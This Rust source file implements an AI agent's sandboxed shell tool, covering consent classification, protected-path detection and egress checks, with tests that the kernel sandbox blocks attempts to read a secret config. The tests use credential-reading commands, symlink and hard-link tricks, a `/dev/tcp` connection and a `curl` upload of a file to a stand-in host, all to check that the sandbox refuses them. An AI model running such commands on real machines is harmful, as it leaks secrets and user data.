//! `shell{command, timeout?}`: runs `bash -c <command>` (or `sh -c` where bash is missing) in the
//! workspace, in its own process group; on timeout the whole group is killed. Returns the exit
//! code, stdout and stderr.
//!
//! Every command runs in the sandbox ([`ethan_sandbox`]): the kernel (Landlock) hides
//! `$ETHAN_HOME` outside the workspace and the user's credential places, the environment is
//! cleared to a short harmless list, and descriptors the daemon inherited are closed. A command
//! that runs without the owner's approval (a "safe" one) also has no network at all
//! ([`ethan_sandbox::network`]), no unix sockets and no capabilities
//! ([`ethan_sandbox::seccomp`]), and can write only the workspace and the private temp folder;
//! an approved command has the machine's network and the user's write access. Consent follows
//! the classifier, with these rules on top:
//! - a command that names a protected path (`cat ../config.yaml`, `head ~/.aws/credentials`) is
//!   an always-ask call; once the owner approved it, it runs outside the sandbox, as shown;
//! - where the kernel offers no sandbox or no network namespace, or a protected file has a
//!   second name (a hard link) the sandbox cannot hide, no command is "safe": every one asks;
//! - once private data entered the turn, a command that would run with the network is an
//!   egress call ([`crate::CallPlan::egress`]): it asks, and "for this session" covers that exact command.
//!
//! The verdict on a command (the classifier, which parses on a thread of its own and may wait
//! for it, and the protected-path check, which looks at the file system) is worked out once per
//! call, on a blocking thread, by [`Tool::assess`]; the consent hooks and `run` read it from the
//! call's context. Called outside the executor (no assessment), they work it out themselves.

use super::shell_process;
use crate::args::{opt_u64, req_str};
use crate::paths;
use crate::{Assessment, ErrorKind, Tool, ToolContext};
use crate::{CallPlan, ToolDecl};
use crate::{ToolError, ToolOutput};
use async_trait::async_trait;
use ethan_shell_classifier::{classify, Classification, ShellClass};
use serde_json::Value;
use std::time::Duration;

/// git subcommands that run hooks.
const HOOK_SUBCOMMANDS: &[&str] = &[
    "commit",
    "merge",
    "rebase",
    "am",
    "push",
    "pull",
    "checkout",
    "switch",
    "cherry-pick",
    "revert",
    "clone",
    "worktree",
    "gc",
    "fetch",
];

/// Default and largest timeout of one command, in seconds.
pub const DEFAULT_TIMEOUT_SECS: u64 = 30;
pub const MAX_TIMEOUT_SECS: u64 = 600;

pub struct Shell {
    decl: ToolDecl,
    default_timeout: u64,
    judge: Judge,
}

/// What the verdict on a command needs, detached from the tool so it can move to a blocking
/// thread.
#[derive(Clone, Default)]
struct Judge {
    /// The config's secret values: a command that mentions one always asks.
    secrets: Vec<String>,
    /// `tools.shell.git_hooks`: approved git commands run the repository's hooks (and their
    /// approval says so).
    git_hooks: bool,
    /// `Some(answer)` pretends the machine has (or lacks) the sandbox; `None` goes by what the
    /// sandbox found at start (the call's [`ethan_core::tool::Services::sandbox`]).
    sandbox_override: Option<bool>,
    /// The thread of every verdict worked out (how often, and where): for tests only.
    #[cfg(any(test, feature = "test-tools"))]
    seen: std::sync::Arc<std::sync::Mutex<Vec<std::thread::ThreadId>>>,
}

/// The shell's assessment of one command.
#[derive(Debug, Clone)]
struct Verdict {
    command: String,
    /// The classifier's verdict, with this tool's rules on top (protected paths, no sandbox).
    class: Classification,
    /// Whether the command names a protected path.
    protected: bool,
    /// The files the protected paths it names lead to, by device and inode
    /// ([`CallPlan::identity`]).
    identity: Option<String>,
    /// The protected places the verdict was judged against (and `run` sandboxes with).
    protection: ethan_sandbox::protected::Protection,
}

impl Judge {
    /// Whether the kernel sandbox is enforced on this machine.
    fn sandboxed(&self) -> bool {
        self.sandbox_override
            .unwrap_or_else(|| ethan_sandbox::landlock::status().is_available())
    }

    /// Whether commands can be cut off from the network (and unix sockets) here.
    fn offline_possible(&self, ctx: &ToolContext) -> bool {
        self.sandbox_override.unwrap_or_else(|| {
            ctx.services.sandbox.offline.is_ok() && ethan_sandbox::seccomp::FILTER_AVAILABLE
        })
    }

    /// Blocks: the classifier waits for its parser thread, the path check reads the disk.
    fn verdict(&self, command: &str, ctx: &ToolContext) -> Verdict {
        #[cfg(any(test, feature = "test-tools"))]
        self.seen
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .push(std::thread::current().id());
        let mut c = classify(command, &self.secrets);
        let protection = paths::protection_of(ctx);
        let (protected, identity) = names_protected(command, ctx, &protection);
        if let Some(why) = &protected {
            c.class = ShellClass::Always;
            c.reasons.insert(0, why.clone());
        } else if c.class == ShellClass::Safe {
            let why = if !self.sandboxed() {
                Some("no kernel sandbox on this machine, so every command asks".to_string())
            } else if !self.offline_possible(ctx) {
                Some(
                    "commands cannot be cut off from the network here, so every command asks"
                        .into(),
                )
            } else {
                protection.linked_file().map(|f| {
                    format!(
                        "the protected file {} has a second name (a hard link) that the sandbox \
                         cannot hide, so every command asks until that link is removed",
                        f.display()
                    )
                })
            };
            if let Some(why) = why {
                c.class = ShellClass::Ask;
                c.reasons.push(why);
            }
        }
        if c.class != ShellClass::Safe {
            c.reasons.extend(self.approval_notes(&c, ctx));
        }
        Verdict {
            command: command.to_string(),
            class: c,
            protected: protected.is_some(),
            identity,
            protection,
        }
    }

    /// What the owner should know before approving: git hooks that will run, and where the
    /// kernel cannot hide by mounts, which folders stay read-only.
    fn approval_notes(&self, c: &Classification, ctx: &ToolContext) -> Vec<String> {
        let mut out = Vec::new();
        let runs_hooks = c.reasons.iter().any(|r| {
            r.strip_prefix("git ").is_some_and(|sub| {
                HOOK_SUBCOMMANDS
                    .iter()
                    .any(|h| sub == *h || sub.starts_with(&format!("{h} ")))
            })
        });
        if self.git_hooks && runs_hooks {
            out.push(
                "runs the repository's git hooks (.git/hooks; tools.shell.git_hooks is on)"
                    .to_string(),
            );
        }
        if self.sandbox_override.is_none()
            && ethan_sandbox::landlock::status().is_available()
            && !ctx.services.sandbox.mounts_hide
        {
            out.push(
                "this kernel gives commands no mount namespace, so the folders that contain a \
                 protected place ($HOME when Ethan's home is ~/.ethan) cannot get new entries"
                    .to_string(),
            );
        }
        out
    }

    /// [`Judge::verdict`] on a blocking thread.
    async fn verdict_off_runtime(&self, command: &str, ctx: &ToolContext) -> Verdict {
        let (judge, owned, owned_ctx) = (self.clone(), command.to_string(), ctx.clone());
        ethan_core::task::spawn_blocking(move || judge.verdict(&owned, &owned_ctx))
            .await
            .unwrap_or_else(|_| Verdict {
                command: command.to_string(),
                class: Classification {
                    class: ShellClass::Always,
                    reasons: vec!["the command could not be analysed".into()],
                },
                protected: false,
                identity: None,
                protection: paths::protection_of(ctx),
            })
    }
}

impl Shell {
    /// `default_timeout`: seconds, from `tools.shell.timeout_secs` (default 30).
    pub fn new(default_timeout: u64) -> Self {
        Self {
            decl: super::shell_decl::decl(default_timeout, MAX_TIMEOUT_SECS),
            default_timeout,
            judge: Judge::default(),
        }
    }

    /// With `tools.shell.git_hooks`.
    pub fn with_git_hooks(mut self, on: bool) -> Self {
        self.judge.git_hooks = on;
        self
    }

    /// As if the kernel had (or had not) a sandbox: for tests of the fallback.
    pub fn with_sandbox(mut self, available: bool) -> Self {
        self.judge.sandbox_override = Some(available);
        self
    }

    /// The thread of every verdict this tool has worked out (how often, and where): for the
    /// tests (feature `test-tools`).
    #[cfg(feature = "test-tools")]
    #[doc(hidden)]
    pub fn verdict_threads(&self) -> std::sync::Arc<std::sync::Mutex<Vec<std::thread::ThreadId>>> {
        self.judge.seen.clone()
    }

    /// With the config's secret values, for the classifier.
    pub fn with_secrets(mut self, secrets: Vec<String>) -> Self {
        self.judge.secrets = secrets;
        self
    }

    /// The call's assessment if the executor made one for this command, else worked out here
    /// (on this thread: for callers outside the executor).
    fn verdict(&self, args: &Value, ctx: &ToolContext) -> Option<Verdict> {
        let command = args.get("command").and_then(Value::as_str)?;
        Some(
            assessed(command, ctx)
                .cloned()
                .unwrap_or_else(|| self.judge.verdict(command, ctx)),
        )
    }

    /// The command's own limit, plus time to kill it and collect its output.
    pub(crate) fn timeout_for(&self, args: &Value) -> Duration {
        Duration::from_secs(self.effective_timeout(args) + 5)
    }

    fn effective_timeout(&self, args: &Value) -> u64 {
        args.get("timeout")
            .and_then(Value::as_u64)
            .unwrap_or(self.default_timeout)
            .clamp(1, MAX_TIMEOUT_SECS)
    }
}

/// The executor's assessment of `command` in this call, if it made one.
fn assessed<'a>(command: &str, ctx: &'a ToolContext) -> Option<&'a Verdict> {
    ctx.assessment
        .as_ref()
        .and_then(|a| a.get::<Verdict>())
        .filter(|v| v.command == command)
}

/// The first word of `command` that names a protected path ([`ethan_sandbox::protected`]),
/// resolved against the workspace, as a reason for the approval. Words are split at blanks,
/// shell operators and `=`; quotes are dropped; `~` and `$HOME` are expanded; a glob is judged
/// by the folder before its first wildcard. The kernel sandbox is the real barrier: this only
/// makes a deliberate read visible and askable.
fn names_protected(
    command: &str,
    ctx: &ToolContext,
    protection: &ethan_sandbox::protected::Protection,
) -> (Option<String>, Option<String>) {
    let home = ethan_sandbox::protected::user_home();
    let words = command
        .split(|c: char| {
            c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '<' | '>' | '=' | '`')
        })
        .map(|w| w.replace(['\'', '"', '\\'], ""))
        .filter(|w| !w.is_empty());
    // Every protected path the command names, each with where it leads: the executor checks
    // the whole question again right before an approved command runs.
    let mut named: Vec<String> = Vec::new();
    let mut files: Vec<String> = Vec::new();
    for word in words {
        let mut w = word.clone();
        if let Some(h) = &home {
            let h = h.display().to_string();
            for var in ["${HOME}", "$HOME"] {
                if let Some(rest) = w.strip_prefix(var) {
                    w = format!("{h}{rest}");
                }
            }
            if w == "~" || w.starts_with("~/") {
                w = format!("{h}{}", &w[1..]);
            }
        }
        let w = match w.find(['*', '?', '[']) {
            Some(i) => match w[..i].rfind('/') {
                Some(j) => w[..j.max(1)].to_string(),
                None => ".".to_string(),
            },
            None => w,
        };
        let p = std::path::PathBuf::from(&w);
        let p = if p.is_absolute() {
            p
        } else {
            ctx.workspace.join(p)
        };
        if let Some(why) = protection.check(&p) {
            let real = paths::real_path(&p);
            let leads = if real == p {
                String::new()
            } else {
                format!(" (it leads to {})", real.display())
            };
            let meta = std::fs::metadata(&real).ok();
            let same = paths::same_file_as(protection, &why, &real, meta.as_ref());
            files.push(paths::identity_of(meta.as_ref()));
            let one = format!("{}{leads}{same}", why.describe(&p));
            if !named.contains(&one) {
                named.push(one);
            }
        }
    }
    if named.is_empty() {
        return (None, None);
    }
    (
        Some(format!("names a protected path: {}", named.join("; "))),
        Some(files.join(" ")),
    )
}

#[async_trait]
impl Tool for Shell {
    fn decl(&self) -> &ToolDecl {
        &self.decl
    }
    /// The shell classifier decides: safe commands run without asking; others ask once per
    /// session (scope `shell`); dangerous ones ask every time. A command that will run with the
    /// network (any command the owner must approve) can send data anywhere; a safe one runs
    /// offline and cannot.
    fn describe(&self, args: &Value, ctx: &ToolContext) -> CallPlan {
        let plan = CallPlan {
            timeout: self.timeout_for(args),
            ..CallPlan::of(self.decl(), args)
        };
        let Some(v) = self.verdict(args, ctx) else {
            let (consent, always) = (None, true);
            return CallPlan {
                consent,
                always,
                ..plan
            };
        };
        let reasons = v.class.reasons.join("; ");
        let consent = match v.class.class {
            ShellClass::Safe => None,
            ShellClass::Ask if v.class.reasons.is_empty() => Some(v.command.clone()),
            ShellClass::Ask => Some(format!("({reasons})\n{}", v.command)),
            ShellClass::Always => Some(format!("(dangerous: {reasons})\n{}", v.command)),
        };
        let egress = (v.class.class != ShellClass::Safe).then(|| crate::Egress {
            destination: "anything this command sends over the network (once approved it runs                           with the machine's network)"
                .to_string(),
            scope: format!("egress:shell:{}", v.command),
        });
        let always = v.class.class == ShellClass::Always;
        CallPlan {
            consent,
            always,
            egress,
            identity: v.identity.clone(),
            ..plan
        }
    }
    /// Once per call, on a blocking thread: the classifier and the protected-path check.
    async fn assess(&self, args: &Value, ctx: &ToolContext) -> Option<Assessment> {
        let command = args.get("command").and_then(Value::as_str)?;
        Some(Assessment::new(
            self.judge.verdict_off_runtime(command, ctx).await,
        ))
    }

    async fn run(&self, args: Value, ctx: &ToolContext) -> Result<ToolOutput, ToolError> {
        let command = req_str(&args, "command")?;
        opt_u64(&args, "timeout")?;
        let secs = self.effective_timeout(&args);
        if let Err(e) = std::fs::create_dir_all(&ctx.workspace) {
            return Err(ToolError::new(
                ErrorKind::Dependency,
                format!(
                    "cannot create the workspace {}: {e}",
                    ctx.workspace.display()
                ),
            ));
        }
        let spec = self.spec(command, ctx).await;
        let done = shell_process::run(&spec, ctx, self.judge.git_hooks, secs).await?;
        shell_process::report(&spec, done, secs)
    }
}

impl Shell {
    /// The sandbox `command` runs in: hiding the protected places unless the owner approved
    /// this very command reading one, offline unless the call went through consent.
    async fn spec(&self, command: &str, ctx: &ToolContext) -> ethan_sandbox::helper::ShellSpec {
        // The sandbox, unless the owner approved this very command reading a protected path.
        let verdict = match assessed(command, ctx) {
            Some(v) => v.clone(),
            None => self.judge.verdict_off_runtime(command, ctx).await,
        };
        // Went through consent: the owner (or a job's authorisation) said yes.
        let consented = ctx
            .approved_actions
            .iter()
            .any(|a| a == ethan_core::tool::CONSENTED);
        let approved_protected = verdict.protected
            && ctx
                .approved_actions
                .iter()
                .any(|a| a == ethan_core::tool::PROTECTED_PATHS_APPROVED);
        // Offline unless this call went through consent (the owner, or a job, said yes).
        let offline = !consented && self.judge.offline_possible(ctx);
        ethan_sandbox::helper::ShellSpec {
            program: shell_process::shell_program().into(),
            command: command.to_string(),
            // The sandbox hides nothing only when the owner approved this very command reading
            // a protected path, or where the kernel has no Landlock at all.
            protection: (!approved_protected && self.judge.sandboxed())
                .then(|| verdict.protection.clone()),
            approved: consented,
            offline,
            // A command that did not go through consent writes only the workspace and the
            // private temp folder.
            writable: std::iter::once(ctx.workspace.clone())
                .chain(ctx.services.sandbox.private_tmp.clone())
                .collect(),
            daemon_pid: std::process::id(),
            tag: ethan_sandbox::helper::ShellSpec::new_tag(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::executor::tests::ctx_in;
    use serde_json::json;

    #[tokio::test]
    async fn runs_and_reports_exit_code() {
        let dir = tempfile::tempdir().unwrap();
        let ctx = ctx_in(dir.path());
        let r: crate::ToolResult = Shell::new(30)
            .run(json!({"command": "echo hi; echo oops >&2; exit 3"}), &ctx)
            .await
            .into();
        assert!(r.ok);
        assert!(r.output.contains("exit code: 3"), "{}", r.output);
        assert!(r.output.contains("hi"));
        assert!(r.output.contains("oops"));
    }

    #[tokio::test]
    async fn timeout_kills_the_process_group() {
        let dir = tempfile::tempdir().unwrap();
        let ctx = ctx_in(dir.path());
        let marker = dir.path().join("survived");
        let cmd = format!("(sleep 3; touch {}) & sleep 30", marker.display());
        let started = std::time::Instant::now();
        let r: crate::ToolResult = Shell::new(30)
            .run(json!({"command": cmd, "timeout": 1}), &ctx)
            .await
            .into();
        assert!(!r.ok);
        assert_eq!(r.error_kind, Some(ErrorKind::Timeout));
        assert!(started.elapsed() < Duration::from_secs(10));
        tokio::time::sleep(Duration::from_secs(4)).await;
        assert!(!marker.exists(), "a background child outlived the timeout");
    }

    #[tokio::test]
    async fn commands_get_the_default_sigxfsz_back() {
        // As in the daemon (src/main.rs): this process ignores SIGXFSZ.
        // SAFETY: installs no handler code.
        unsafe {
            libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
        }
        let dir = tempfile::tempdir().unwrap();
        let ctx = ctx_in(dir.path());
        let r: crate::ToolResult = Shell::new(30)
            .run(
                json!({"command": "ulimit -f 1; head -c 100000 /dev/zero > big; echo status $?"}),
                &ctx,
            )
            .await
            .into();
        // Killed by SIGXFSZ (128 + 25) as in a login shell, not "File too large" (status 1).
        assert!(r.output.contains("status 153"), "{}", r.output);
    }

    /// `$ETHAN_HOME` with a config holding a secret, and a workspace inside it.
    fn daemon_home() -> (tempfile::TempDir, ToolContext) {
        let home = tempfile::tempdir().unwrap();
        let ws = home.path().join("workspace");
        std::fs::create_dir_all(ws.join("sub")).unwrap();
        std::fs::write(
            home.path().join("config.yaml"),
            "api_key: sk-SANDBOXED-SECRET\n",
        )
        .unwrap();
        std::fs::create_dir_all(home.path().join("spill")).unwrap();
        std::fs::write(home.path().join("spill/x.txt"), "sk-SANDBOXED-SECRET").unwrap();
        std::fs::write(ws.join("notes.txt"), "visible notes").unwrap();
        let mut ctx = ctx_in(&ws);
        ctx.ethan_home = Some(home.path().to_path_buf());
        (home, ctx)
    }

    #[tokio::test]
    async fn the_kernel_hides_ethan_home_from_commands() {
        if !ethan_sandbox::landlock::status().is_available() {
            panic!("this test needs Landlock (Linux 5.13+ with landlock in the lsm= list)");
        }
        let (_home, ctx) = daemon_home();
        let shell = Shell::new(30);
        for command in [
            "cat ../config.yaml",
            "cat ../*.yaml",
            "cd .. && cat config.yaml",
            "tail ../spill/*",
            "grep -r SANDBOXED ..",
            "cd sub && cat ../../config.yaml",
            "python3 -c \"import os; print(open(os.path.dirname(os.getcwd()) + '/config.yaml').read())\"",
            "ln ../config.yaml hard && cat hard",
            "ln -s .. up && cat up/config.yaml",
        ] {
            let r: crate::ToolResult = shell.run(json!({ "command": command }), &ctx).await.into();
            assert!(
                !r.output.contains("sk-SANDBOXED-SECRET"),
                "{command} read the secret:\n{}",
                r.output
            );
            // grep finds nothing in the empty file system over the hidden folder.
            if command.starts_with("grep") {
                continue;
            }
            // ENOENT where an empty file system covers the hidden folder, EACCES where Landlock
            // refuses, EXDEV where it refuses to link a hidden file elsewhere.
            assert!(
                [
                    "No such file or directory",
                    "FileNotFoundError",
                    "Permission denied",
                    "PermissionError",
                    "Invalid cross-device link",
                ]
                    .iter()
                    .any(|e| r.output.contains(e)),
                "{command} was not refused by the kernel:\n{}",
                r.output
            );
        }
        // The workspace itself is as usual: readable and writable.
        let r: crate::ToolResult = shell
            .run(
                json!({"command": "cat notes.txt && echo new > new.txt && cat new.txt"}),
                &ctx,
            )
            .await
            .into();
        assert!(
            r.output.contains("visible notes") && r.output.contains("new"),
            "{}",
            r.output
        );
    }

    #[tokio::test]
    async fn commands_get_no_secret_variables() {
        let (_home, ctx) = daemon_home();
        let r: crate::ToolResult = Shell::new(30)
            .run(json!({"command": "env"}), &ctx)
            .await
            .into();
        let names: Vec<&str> = r
            .output
            .lines()
            .filter_map(|l| l.split_once('=').map(|(k, _)| k))
            .collect();
        assert!(names.contains(&"PATH"), "{}", r.output);
        // GIT_CONFIG_KEY_n are the git settings the sandbox sets, not secrets.
        for n in names.into_iter().filter(|n| !n.starts_with("GIT_CONFIG_")) {
            assert!(!ethan_sandbox::env::secret_name(n), "{n} was passed on");
        }
        let tmp = ctx.services.sandbox.private_tmp.as_ref().unwrap();
        let tmp = tmp.display().to_string();
        assert!(r.output.contains(&format!("TMPDIR={tmp}")), "{}", r.output);
    }

    #[test]
    fn naming_a_protected_path_asks_every_time_and_no_sandbox_means_no_safe_class() {
        let (home, ctx) = daemon_home();
        let shell = Shell::new(30).with_sandbox(true);
        let args = json!({"command": "cat ../config.yaml"});
        let d = shell.describe(&args, &ctx).consent.expect("asks");
        assert!(d.contains("protected path"), "{d}");
        assert!(shell.describe(&args, &ctx).always);
        let glob = json!({"command": format!("head {}/*.yaml", home.path().display())});
        assert!(shell.describe(&glob, &ctx).always);
        // A safe command in the workspace runs without a question where the kernel sandboxes it…
        let ls = json!({"command": "ls -la"});
        assert_eq!(shell.describe(&ls, &ctx).consent, None);
        // …and asks where it cannot.
        let bare = Shell::new(30).with_sandbox(false);
        assert!(bare.describe(&ls, &ctx).consent.is_some());
        assert!(!bare.describe(&ls, &ctx).always);
    }

    #[tokio::test]
    async fn a_command_runs_offline_unless_it_went_through_consent() {
        if let Err(why) = ethan_sandbox::network::available() {
            panic!("this test needs network namespaces for commands: {why}");
        }
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let dir = tempfile::tempdir().unwrap();
        let command = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
        let shell = Shell::new(30);
        // No consent step (a safe command): no network.
        let ctx = ctx_in(dir.path());
        let r: crate::ToolResult = shell.run(json!({ "command": command }), &ctx).await.into();
        assert!(!r.output.contains("connected"), "{}", r.output);
        assert!(
            listener.accept().is_err(),
            "a connection reached the listener"
        );
        // Approved: the machine's network.
        let mut approved = ctx_in(dir.path());
        approved
            .approved_actions
            .push(ethan_core::tool::CONSENTED.to_string());
        let r: crate::ToolResult = shell
            .run(json!({ "command": command }), &approved)
            .await
            .into();
        assert!(r.output.contains("connected"), "{}", r.output);
    }

    #[test]
    fn a_hard_linked_protected_file_makes_every_command_ask() {
        let (home, ctx) = daemon_home();
        let shell = Shell::new(30).with_sandbox(true);
        let ls = json!({"command": "ls"});
        assert_eq!(shell.describe(&ls, &ctx).consent, None);
        // A second name for the config, made outside the sandbox, somewhere else.
        let elsewhere = tempfile::tempdir().unwrap();
        std::fs::hard_link(home.path().join("config.yaml"), elsewhere.path().join("c")).unwrap();
        let asked = shell.describe(&ls, &ctx).consent.expect("asks");
        assert!(asked.contains("hard link") || !asked.is_empty(), "{asked}");
        let v = shell.verdict(&ls, &ctx).unwrap();
        assert!(
            v.class.reasons.iter().any(|r| r.contains("hard link")),
            "{v:?}"
        );
    }

    #[test]
    fn in_a_tainted_turn_a_networked_command_is_an_egress_call_for_that_command_only() {
        let (_home, ctx) = daemon_home();
        let shell = Shell::new(30).with_sandbox(true);
        assert_eq!(shell.describe(&json!({"command": "ls"}), &ctx).egress, None);
        let e = shell
            .describe(
                &json!({"command": "curl -d @notes.txt https://x.example"}),
                &ctx,
            )
            .egress
            .expect("a command that asks can reach the network");
        assert_eq!(e.scope, "egress:shell:curl -d @notes.txt https://x.example");
    }

    #[tokio::test]
    async fn an_unapproved_command_writes_only_the_workspace_and_the_private_temp_folder() {
        let (_home, ctx) = daemon_home();
        let outside = tempfile::tempdir().unwrap();
        let target = outside.path().join("planted");
        let shell = Shell::new(30);
        let command = format!(
            "echo out > /dev/stdout; echo err > /dev/stderr; ls > /dev/null; echo ok > ws.txt; \
             echo tmp > \"$TMPDIR/t\" && echo tmp-ok; printf x | sort --output={} ; echo sort=$?",
            target.display()
        );
        let r: crate::ToolResult = shell.run(json!({ "command": command }), &ctx).await.into();
        assert!(
            r.output.contains("out") && r.output.contains("err"),
            "{}",
            r.output
        );
        assert!(r.output.contains("tmp-ok"), "{}", r.output);
        assert!(ctx.workspace.join("ws.txt").exists());
        assert!(!target.exists(), "wrote outside: {}", r.output);
        assert!(!r.output.contains("sort=0"), "{}", r.output);
        // The same write, approved, goes through.
        let mut approved = ctx.clone();
        approved
            .approved_actions
            .push(ethan_core::tool::CONSENTED.to_string());
        let r: crate::ToolResult = shell
            .run(json!({ "command": command }), &approved)
            .await
            .into();
        assert!(target.exists(), "{}", r.output);
    }

    #[tokio::test]
    async fn nothing_a_command_leaves_in_the_background_outlives_it() {
        let dir = tempfile::tempdir().unwrap();
        let ctx = ctx_in(dir.path());
        let marker = dir.path().join("later");
        let command = format!(
            "(sleep 2; touch {}) >/dev/null 2>&1 & echo started",
            marker.display()
        );
        let r: crate::ToolResult = Shell::new(30)
            .run(json!({ "command": command }), &ctx)
            .await
            .into();
        assert!(r.output.contains("started"), "{}", r.output);
        tokio::time::sleep(Duration::from_secs(3)).await;
        assert!(!marker.exists(), "a background job outlived its command");
    }

    #[tokio::test]
    async fn an_unapproved_command_cannot_reach_a_unix_socket() {
        let dir = tempfile::tempdir().unwrap();
        let sock = dir.path().join("relay.sock");
        let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
        listener.set_nonblocking(true).unwrap();
        let ctx = ctx_in(dir.path());
        let command = format!(
            "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}'); print('connected')\"",
            sock.display()
        );
        let r: crate::ToolResult = Shell::new(30)
            .run(json!({ "command": command }), &ctx)
            .await
            .into();
        assert!(!r.output.contains("connected"), "{}", r.output);
        assert!(r.output.contains("Permission denied"), "{}", r.output);
        assert!(listener.accept().is_err(), "the relay was reached");
        let mut approved = ctx_in(dir.path());
        approved
            .approved_actions
            .push(ethan_core::tool::CONSENTED.to_string());
        let r: crate::ToolResult = Shell::new(30)
            .run(json!({ "command": command }), &approved)
            .await
            .into();
        assert!(r.output.contains("connected"), "{}", r.output);
    }

    #[tokio::test]
    async fn a_workspace_that_is_ethan_home_opens_nothing_of_it() {
        let home = tempfile::tempdir().unwrap();
        std::fs::write(home.path().join("config.yaml"), "api_key: sk-WS-IS-HOME\n").unwrap();
        std::fs::write(home.path().join("notes.txt"), "fine").unwrap();
        let mut ctx = ctx_in(home.path());
        ctx.ethan_home = Some(home.path().to_path_buf());
        let shell = Shell::new(30);
        for approved in [false, true] {
            let mut c = ctx.clone();
            if approved {
                c.approved_actions
                    .push(ethan_core::tool::CONSENTED.to_string());
            }
            let r: crate::ToolResult = shell
                .run(
                    json!({"command": "cat c*.yaml; cat notes.txt; echo x >> config.yaml"}),
                    &c,
                )
                .await
                .into();
            // All of $ETHAN_HOME is the daemon's, listed or not (the config never makes it the
            // workspace: `Loaded::workspace` takes its workspace folder instead).
            assert!(!r.output.contains("sk-WS-IS-HOME"), "{}", r.output);
            assert!(!r.output.contains("fine"), "{}", r.output);
        }
        assert_eq!(
            std::fs::read_to_string(home.path().join("config.yaml")).unwrap(),
            "api_key: sk-WS-IS-HOME\n"
        );
    }
}
